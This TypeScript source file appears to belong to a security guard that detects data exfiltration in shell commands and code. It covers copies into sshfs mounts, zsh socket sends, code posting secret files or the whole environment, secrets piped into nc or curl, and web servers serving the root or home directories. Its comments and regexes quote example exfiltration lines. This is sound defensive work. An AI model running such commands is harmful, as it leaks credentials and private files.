import { Severity } from "../../../gen/guard/v1/types_pb.js";
import { isSensitiveFile, normalizePath, pathTokens } from "../commands/paths.js";
import { type Hit, hitOn, NETWORK_SENDERS, operands } from "../commands/rules/types.js";
import {
  type Analysis,
  type CodeFragment,
  type Invocation,
  TRANSFER_SESSIONS,
} from "../commands/shell/analyze.js";
import { literalTexts } from "../commands/shell/code-strings.js";
import { printsEnvironment } from "../commands/shell/staging.js";
import { isRemote } from "./remote.js";
import { fileSent, sessionPuts } from "./transfers.js";

/**
 * Sends seen only across commands or inside interpreter code: a copy into a remote mount made
 * earlier, a zsh socket opened by one command and written by another, a secret piped into a
 * network client, code that reads a file and posts it, a web server given a configuration in
 * the same command that serves the whole file system.
 */

/** Directory levels looked at above a path; bounds the work on hostile paths with many slashes. */
const MAX_LEVELS = 32;

/** `path` is a mount point or below one; walks the path's own prefixes, not the mounts. */
function underMount(path: string, mounts: ReadonlySet<string>): boolean {
  let levels = 0;
  for (let k = path.length; k > 0 && levels < MAX_LEVELS; k = path.lastIndexOf("/", k - 1), levels++) {
    if (mounts.has(path.slice(0, k))) return true;
  }
  return false;
}

/** Web servers that read a configuration file: what `configuredServers` starts from. */
export const WEB_SERVERS: readonly string[] = ["nginx", "lighttpd", "apache2", "httpd"];

/**
 * Every program `mountsRemote`, `opensZshSocket` or `startsWebServer` holds for, which the
 * check noting them is declared on: the checks they start find nothing in an analysis without
 * such a command.
 */
export const STARTING_PROGRAMS: readonly string[] = ["sshfs", "mount", "ztcp", ...WEB_SERVERS];

/** `sshfs host:dir mnt` or `mount -t fuse.sshfs ...`: what `remoteMountCopies` starts from. */
export function mountsRemote(inv: Invocation): boolean {
  return inv.name === "sshfs" || (inv.name === "mount" && inv.args.includes("fuse.sshfs"));
}

/** `ztcp host port`, a zsh socket opened: what `zshSocketSend` starts from. */
export function opensZshSocket(inv: Invocation): boolean {
  return inv.name === "ztcp" && !inv.args.includes("-l") && inv.args.length >= 2;
}

/** `sshfs host:dir mnt` then `cp f mnt/`: files copied into a remote mount leave the host. */
export function remoteMountCopies(analysis: Analysis): Hit[] {
  const mounts = new Set<string>();
  const hits: Hit[] = [];
  for (const inv of analysis.invocations) {
    if (mountsRemote(inv)) {
      const ops = operands(inv.args);
      if (ops.length >= 2 && isRemote(ops[0]!)) mounts.add(normalizePath(ops[1]!));
      continue;
    }
    if (
      mounts.size === 0 ||
      !(inv.name === "cp" || inv.name === "mv" || inv.name === "rsync" || inv.name === "install")
    )
      continue;
    const ops = operands(inv.args);
    const target = normalizePath(ops.at(-1) ?? "");
    if (ops.length < 2 || !underMount(target, mounts)) continue;
    for (const source of ops.slice(0, -1)) {
      const hit = fileSent(inv, "remote-mount-copy", "copies into a remote sshfs mount:", source);
      if (hit) {
        hits.push(hit);
        break;
      }
    }
  }
  return hits;
}

/** zsh's `ztcp host port` with data written to the socket's descriptor (`>&$REPLY`). */
export function zshSocketSend(analysis: Analysis): Hit[] {
  const connect = analysis.invocations.find(opensZshSocket);
  if (!connect) return [];
  const writer = analysis.invocations.find((m) =>
    m.redirects.some((r) => r.op === ">&" && r.target.text.startsWith("$")),
  );
  return writer
    ? [
        hitOn(
          { start: connect.start, end: writer.end },
          "zsh-socket-send",
          Severity.MEDIUM,
          0.65,
          "sends data over a zsh TCP socket",
        ),
      ]
    : [];
}

/** Code that reads a file and code that sends over the network, in one fragment. */
const CODE_FILE_READ =
  /open\(|io\.open|createReadStream|readFile|file_get_contents|File\.read|IO\.read|fopen|slurp|\$\(</;
const CODE_NETWORK_SEND =
  /socket|urlopen|urllib|requests\.(post|put)|https?\.request|require\(["']https?["']\)|fetch\(|IO::Socket|LWP|HTTP::Tiny|curl_exec|Net::HTTP|net\.connect|\.send\(|\.sendall\(/i;

/** The environment as a whole, as code reads it: `dict(os.environ)`, `os.environ.copy()`, `JSON.stringify(process.env)`. */
const CODE_WHOLE_ENVIRONMENT =
  /dict\(os\.environ\)|os\.environ\.copy\(\)|json\.dumps\(os\.environ|=\s?os\.environ\s?[,)]|JSON\.stringify\(process\.env\)|%ENV\b|ENV\.to_h/;

export function codeUploads(analysis: Analysis): Hit[] {
  const hits: Hit[] = [];
  for (const c of analysis.code) {
    if (c.tool) {
      const hit = toolCodeUpload(c);
      if (hit) hits.push(hit);
      continue;
    }
    if (c.interpreter.endsWith(" output") || c.interpreter === "here-document") continue;
    if (TRANSFER_SESSIONS.has(c.interpreter)) {
      for (const file of sessionPuts(c.code)) {
        const hit = fileSent(c, "session-upload", `${c.interpreter} session uploads`, file);
        if (hit) {
          hits.push(hit);
          break;
        }
      }
      continue;
    }
    if (!CODE_NETWORK_SEND.test(c.code)) continue;
    if (CODE_WHOLE_ENVIRONMENT.test(c.code)) {
      hits.push(environmentSent(c));
      continue;
    }
    if (!CODE_FILE_READ.test(c.code)) continue;
    const secret = pathTokens(c.code).find(isSensitiveFile);
    hits.push(
      secret !== undefined
        ? secretSent(c, secret)
        : hitOn(
            c,
            "code-upload",
            Severity.MEDIUM,
            0.6,
            `${c.interpreter} code reads a file and sends it over the network`,
          ),
    );
  }
  return hits;
}

/**
 * A program given to a code tool, whose one statement sends a secret file's contents or the
 * whole environment (`requests.post(url, data=open('.env').read())`). A whole program that
 * reads `.env` somewhere (`load_dotenv()`) and calls an API somewhere else is ordinary, so only
 * a line that both reads and sends counts.
 */
function toolCodeUpload(c: CodeFragment): Hit | undefined {
  if (!CODE_NETWORK_SEND.test(c.code)) return undefined;
  for (const line of c.code.split("\n")) {
    if (!CODE_NETWORK_SEND.test(line)) continue;
    if (CODE_WHOLE_ENVIRONMENT.test(line)) return environmentSent(c);
    if (!CODE_FILE_READ.test(line)) continue;
    const secret = [...pathTokens(line), ...literalTexts(line)].find(isSensitiveFile);
    if (secret !== undefined) return secretSent(c, secret);
  }
  return undefined;
}

/** Code that sends the whole environment (`requests.post(url, json=dict(os.environ))`): every secret in it. */
function environmentSent(c: CodeFragment): Hit {
  return hitOn(
    c,
    "code-upload-environment",
    Severity.HIGH,
    0.85,
    `${c.interpreter} code sends the environment over the network`,
  );
}

/** Code that reads `secret` and sends it. */
function secretSent(c: CodeFragment, secret: string): Hit {
  return hitOn(
    c,
    "code-upload-secret",
    Severity.HIGH,
    0.85,
    `${c.interpreter} code sends ${secret} over the network`,
  );
}

export const uploadPatterns: readonly RegExp[] = [CODE_FILE_READ, CODE_NETWORK_SEND, CODE_WHOLE_ENVIRONMENT];

/** A variable named for a secret: `$AWS_SECRET_ACCESS_KEY`, `${GITHUB_TOKEN}`, `$DB_PASSWORD`. */
const SECRET_VARIABLE = /\$\{?[A-Za-z0-9_]*(?:SECRET|TOKEN|PASSW|API_?KEY|PRIVATE_?KEY|CREDENTIAL)/i;

/** `echo "$AWS_SECRET_ACCESS_KEY"`: a secret from the environment printed into the pipe. */
function printsSecretVariable(inv: Invocation): boolean {
  return (
    (inv.name === "echo" || inv.name === "printf") && inv.argWords.some((w) => SECRET_VARIABLE.test(w.text))
  );
}

/** `kubectl get secrets -A -o json`: every secret of a cluster. */
function readsClusterSecrets(inv: Invocation): boolean {
  return (
    inv.name === "kubectl" && inv.args.includes("get") && inv.args.some((a) => /^secrets?(?:\/|$)/.test(a))
  );
}

/** Whether a pipeline member writes secrets into the pipe: a secret it names (`secretOf`), the environment, a secret variable, a cluster's secrets. */
export function feedsSecrets(m: Invocation, secretOf: (inv: Invocation) => string | undefined): boolean {
  return (
    secretOf(m) !== undefined || printsEnvironment(m) || printsSecretVariable(m) || readsClusterSecrets(m)
  );
}

/** A secret read early in a pipeline and piped into a network client after it (`cat ~/.aws/credentials | nc h 9`). */
export function pipedSecrets(analysis: Analysis, secretOf: (inv: Invocation) => string | undefined): Hit[] {
  const hits: Hit[] = [];
  for (const p of analysis.pipelines) {
    const members = p.invocations;
    // The receiving end must be a network sender after the first member; most pipelines have none.
    if (!members.some((m, k) => k > 0 && NETWORK_SENDERS.has(m.name))) continue;
    const reader = members.findIndex((m) => feedsSecrets(m, secretOf));
    const sender = members.findIndex(
      (m, k) => k > reader && NETWORK_SENDERS.has(m.name) && operands(m.args).length > 0,
    );
    if (reader !== -1 && sender > reader) {
      hits.push(
        hitOn(p, "pipe-secret-network", Severity.HIGH, 0.85, `secret piped into ${members[sender]!.name}`),
      );
    }
  }
  return hits;
}

/** `nginx -c f`, `nginx -s reload`, `lighttpd -f f`; not a configuration test (`nginx -t`). */
export function startsWebServer(inv: Invocation): boolean {
  return WEB_SERVERS.includes(inv.name) && !inv.args.includes("-t") && !inv.args.includes("-T");
}

/**
 * Document roots in a web server's configuration: nginx's `root /x;` or `alias /x;`, Apache's
 * `DocumentRoot /x`, lighttpd's `server.document-root = "/x"`; the path may still be quoted.
 * One pattern per server: joined by alternation, the linear-time checker (redos.test.ts) took
 * seconds to decide them.
 */
export const DOCUMENT_ROOTS: readonly RegExp[] = [
  /\b(?:root|alias)[ \t]+([^\s;]+);/g,
  /DocumentRoot[ \t]+([^\s;]+)/g,
  /server\.document-root[ \t]*=[ \t]*([^\s;]+)/g,
];

/** Text a command writes to a file: where a configuration written for a server started later is seen. */
const WRITTEN_TEXT: ReadonlySet<string> = new Set(["here-document", "echo output", "printf output"]);

/** `"/srv"` or `'/srv'` as `/srv`: configurations may quote a path. */
function unquoted(path: string): string {
  const q = path[0];
  return (q === '"' || q === "'") && path.length >= 2 && path.endsWith(q) ? path.slice(1, -1) : path;
}

/** The whole file system or a home directory: serving one serves every secret the server can read. */
function isWholeTree(dir: string): boolean {
  const path = normalizePath(dir);
  let end = path.length;
  while (end > 0 && path[end - 1] === "/") end--;
  const p = path.slice(0, end);
  return p === "" || p === "~" || p === "/root" || p === "/home" || /^\/home\/[^/]+$/.test(p);
}

/**
 * A web server configuration written in the command and a web server started in it, the
 * configuration's document root the file system's root, a home directory or a secret
 * (`cat > /tmp/x.conf <<EOF ... root /; ... EOF` then `nginx -c /tmp/x.conf`): the files are
 * then served to the network. Which file the server reads is not followed (a reload reads the
 * configured directory); serving any other directory is what web servers are for.
 */
export function configuredServers(analysis: Analysis): Hit[] {
  const server = analysis.invocations.find(startsWebServer);
  if (server === undefined) return [];
  for (const c of analysis.code) {
    if (!WRITTEN_TEXT.has(c.interpreter)) continue;
    for (const m of DOCUMENT_ROOTS.flatMap((re) => [...c.code.matchAll(re)])) {
      const dir = unquoted(m[1] ?? "");
      const span = { start: Math.min(c.start, server.start), end: Math.max(c.end, server.end) };
      if (isSensitiveFile(dir))
        return [
          hitOn(span, "file-server-secret", Severity.HIGH, 0.85, `${server.name} serves ${dir} over HTTP`),
        ];
      if (isWholeTree(dir))
        return [hitOn(span, "file-server", Severity.MEDIUM, 0.6, `${server.name} serves ${dir} over HTTP`)];
    }
  }
  return [];
}

/** Interpreter code that starts a file server on the working directory. */
export function servedByCode(analysis: Analysis): Hit[] {
  const hits: Hit[] = [];
  for (const c of analysis.code) {
    if (/SimpleHTTPRequestHandler|http\.server|SimpleHTTPServer/.test(c.code)) {
      hits.push(hitOn(c, "file-server-code", Severity.MEDIUM, 0.5, "serves local files over HTTP"));
    }
  }
  return hits;
}
